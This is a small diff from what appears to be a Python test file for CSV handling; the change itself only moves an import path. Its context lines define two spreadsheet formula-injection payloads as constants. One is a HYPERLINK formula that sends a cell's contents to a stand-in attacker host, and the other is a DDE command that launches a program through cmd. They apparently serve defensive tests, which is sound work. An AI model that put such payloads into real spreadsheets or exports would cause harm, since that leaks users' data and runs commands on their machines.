@@ -11,7 +11,7 @@ from typing import Any
 
 from helpers.runs import cli, read_results, write_jsonl
 
-from imagebatch.tasks.csvcells import read_csv
+from imagebatch.storage.csvcells import read_csv
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open me")'
 CALC = "=cmd|' /C calc'!A0"
